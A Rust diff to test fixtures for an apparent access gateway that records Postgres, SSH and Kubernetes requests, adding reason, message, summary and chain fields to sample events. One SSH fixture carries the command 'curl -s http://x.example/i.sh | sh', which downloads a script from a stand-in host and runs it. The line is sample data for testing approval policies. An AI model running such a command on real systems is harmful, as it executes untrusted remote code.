@@ -135,6 +135,7 @@ pub fn one_of_each() -> Vec<Event> {
         pg(Event::builder(
             gw,
             RequestObserved {
+                reason: None,
                 command: "SELECT hostname FROM infra.hosts WHERE env = 'prod'".into(),
                 detail: RequestDetail::Postgres(PgStatement {
                     kind: PgKind::Select,
@@ -190,6 +191,7 @@ pub fn one_of_each() -> Vec<Event> {
         ssh(Event::builder(
             gw,
             RequestObserved {
+                reason: None,
                 command: "curl -s http://x.example/i.sh | sh".into(),
                 detail: RequestDetail::Ssh(SshRequest {
                     kind: SshRequestKind::Exec,
@@ -222,6 +224,7 @@ pub fn one_of_each() -> Vec<Event> {
         k8s(Event::builder(
             gw,
             RequestObserved {
+                reason: None,
                 command: "POST /api/v1/namespaces/default/pods".into(),
                 detail: RequestDetail::Kubernetes(K8sRequest {
                     method: "POST".into(),
@@ -257,6 +260,10 @@ pub fn one_of_each() -> Vec<Event> {
                 rule: "pg_ssh_k8s".into(),
                 group: "sre-oncall".into(),
                 deadline: at(base, 120_000 + 15 * 60_000),
+                message: None,
+                reason: None,
+                summary: None,
+                chain: Vec::new(),
             },
         ))
         .id(id())
@@ -275,6 +282,7 @@ pub fn one_of_each() -> Vec<Event> {
                 effect: Some(Effect::RequireApproval),
                 request: Some(k8s_req),
                 related_events: vec![pg_req, ssh_req, k8s_req],
+                chain: Vec::new(),
             },
         ))
         .id(id())
@@ -378,6 +386,7 @@ pub fn sample(i: u64, gateway: &str) -> Event {
     match i % 4 {
         0 => b(
             RequestObserved {
+                reason: None,
                 command: format!("SELECT id, name, email FROM app.users WHERE id = {i}"),
                 detail: RequestDetail::Postgres(PgStatement {
                     kind: PgKind::Select,
@@ -405,6 +414,7 @@ pub fn sample(i: u64, gateway: &str) -> Event {
         ),
         2 => b(
             RequestObserved {
+                reason: None,
                 command: format!("ls -la /var/log/app-{}", i % 13),
                 detail: RequestDetail::Ssh(SshRequest {
                     kind: SshRequestKind::Exec,
@@ -565,7 +575,12 @@ impl Gen {
             session,
             target,
             proto,
-            RequestObserved { command, detail }.into(),
+            RequestObserved {
+                command,
+                detail,
+                reason: None,
+            }
+            .into(),
         );
         let decided = DecisionMade {
             request: Some(req),
